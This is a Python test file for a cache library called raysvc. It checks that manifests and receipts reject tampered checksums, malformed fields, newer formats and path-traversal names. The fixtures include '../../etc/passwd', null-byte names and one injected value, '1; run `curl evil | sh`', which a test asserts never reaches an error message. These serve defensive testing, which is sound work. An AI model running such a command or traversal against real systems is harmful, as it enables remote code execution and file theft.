"""Manifests and receipts: what parses is safe to act on."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from raysvc.cache import names
from raysvc.cache.local.sealed import sealed
from raysvc.cache.manifest import Manifest, Receipt
from raysvc.cache.names import folder_of, new_part
from raysvc.cache.part_info import PartInfo
from raysvc.errors import EntryError, EntryTooNew

from .helpers import KEY, RECIPE

COLUMNS = {"input_ids": "list<int32>", "loss_mask": "list<uint8>", "uid": "string"}


def part(index: int = 0, **changes: object) -> PartInfo:
    info = PartInfo(new_part(index)[0], 10, 100, 4096, "0" * 32, 64, "1" * 32)
    return replace(info, **changes)


MANIFEST = Manifest(KEY, (part(0), part(1)), COLUMNS, RECIPE, {"seen": 2})
RECEIPT = Receipt(3, part(3), COLUMNS, {"row_counts": {"in": 5}})


def resealed(manifest: Manifest, **changes: object) -> bytes:
    """A manifest whose checksum is right although a field was changed: what an adversary would write."""
    raw = json.loads(manifest.to_json())
    del raw["sha256"]
    return sealed(raw | changes)


def test_what_was_written_is_read():
    assert Manifest.from_json(MANIFEST.to_json(), "x") == MANIFEST
    assert Receipt.from_json(RECEIPT.to_json(), "x") == RECEIPT
    assert (MANIFEST.num_rows, MANIFEST.num_tokens, MANIFEST.num_bytes) == (20, 200, 8192)


@given(st.integers(0, len(MANIFEST.to_json()) - 1), st.integers(0, 7))
@settings(max_examples=300)
def test_any_flipped_bit_is_found(place, bit):
    data = bytearray(MANIFEST.to_json())
    data[place] ^= 1 << bit
    with pytest.raises(EntryError):
        Manifest.from_json(bytes(data), "x")


@given(st.binary(max_size=200) | st.text(max_size=50).map(str.encode) | st.just(b"[" * 100_000))
@settings(max_examples=200)
def test_anything_else_is_an_entry_error(data):
    for kind in (Manifest, Receipt):
        with pytest.raises(EntryError, match="here"):
            kind.from_json(data, "here")


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "part-00000-0123456789abcdef.arrow/../x",
        "..",
        "",
        "manifest.json",
        "a\0b",
        "part-00000-0123456789abcdef.arrow\n",
        "part-00000-0123456789ABCDEF.arrow",
        None,
        3,
        ["part"],
    ],
)
def test_a_part_cannot_lie_outside_the_folder(name):
    raw = json.loads(MANIFEST.to_json())
    raw["parts"][0]["name"] = name
    with pytest.raises(EntryError, match="is not the name of a part"):
        Manifest.from_json(resealed(MANIFEST, parts=raw["parts"]), "x")


@pytest.mark.parametrize(
    "changes",
    [
        {"key": "../x"},
        {"key": 3},
        {"parts": {}},
        {"parts": [3]},
        {"num_rows": 21},
        {"num_tokens": -1},
        {"columns": {"input_ids": "object"}},
        {"columns": []},
        {"columns": COLUMNS | {"input_ids": "list<float32>"}},
        {"columns": {name: COLUMNS[name] for name in COLUMNS if name != "loss_mask"}},
        {"recipe": {"other": 1}},
        {"recipe": None},
        {"report": "text"},
        {"parts": [{**json.loads(MANIFEST.to_json())["parts"][0]}] * 2},
    ]
    + [
        {"parts": [{**json.loads(MANIFEST.to_json())["parts"][0], name: value}]}
        for name, value in [
            ("num_rows", -1),
            ("num_rows", True),
            ("num_rows", 1.0),
            ("num_rows", 1 << 70),
            ("num_bytes", "9"),
            ("checksum", "../x"),
            ("offsets_checksum", None),
            ("offsets_start", 1 << 40),
            ("blocks", "0" * 15),
            ("blocks", "z" * 16),
        ]
    ],
)
def test_impossible_fields_are_refused(changes):
    with pytest.raises(EntryError, match=r"cache\.force: true"):
        Manifest.from_json(resealed(MANIFEST, **changes), "x")


def test_a_newer_format_is_refused_with_the_version_that_reads_it():
    for data in (
        resealed(MANIFEST, format=7, readable_since="2.3.0", parts="of another shape"),
        b'{"format": 7, "readable_since": "2.3.0"}',
    ):
        with pytest.raises(
            EntryTooNew, match=r"format 7, this raysvc reads up to 3; install raysvc 2\.3\.0 or newer"
        ):
            Manifest.from_json(data, "x")


def test_a_newer_format_cannot_smuggle_text_into_the_message():
    with pytest.raises(EntryTooNew) as caught:
        Manifest.from_json(resealed(MANIFEST, format=7, readable_since="1; run `curl evil | sh`"), "x")
    assert "curl" not in str(caught.value)


def test_a_receipt_cannot_speak_for_another_slice():
    with pytest.raises(EntryError, match="another slice"):
        Receipt.from_json(replace(RECEIPT, slice_index=4).to_json(), "x")


def test_the_names_of_fields_of_many_receipts_are_the_same_strings() -> None:
    """A build holds a receipt of each slice, and names are half of one."""
    read = [Receipt.from_json(RECEIPT.to_json(), "x") for _ in range(2)]
    for one, other in zip(read[0].meta, read[1].meta, strict=True):
        assert one is other
    for one, other in zip(read[0].meta["row_counts"], read[1].meta["row_counts"], strict=True):
        assert one is other


@pytest.mark.parametrize("key", ["", ".", "..", "a/b", "/etc", "a\0", ".hidden", "a" * 200, "a b", "a.1"])
def test_a_key_cannot_leave_the_root(key):
    with pytest.raises(EntryError, match="is not the key of an entry"):
        folder_of(key)


@given(st.from_regex(names.KEY, fullmatch=True), st.integers(0, 999_999))
@settings(max_examples=50)
def test_a_folder_tells_its_key_and_generation(key, generation):
    assert names.split_folder(folder_of(key, generation)) == (key, generation)


@given(st.integers(0, 10**8))
@settings(max_examples=50)
def test_fresh_names_have_the_shapes_that_are_accepted(index):
    part_name, receipt_name = new_part(index)
    assert names.PART.fullmatch(part_name)[1] == names.RECEIPT.fullmatch(receipt_name)[1]
    assert new_part(index) != (part_name, receipt_name)
    assert names.USE.fullmatch(names.new_use())
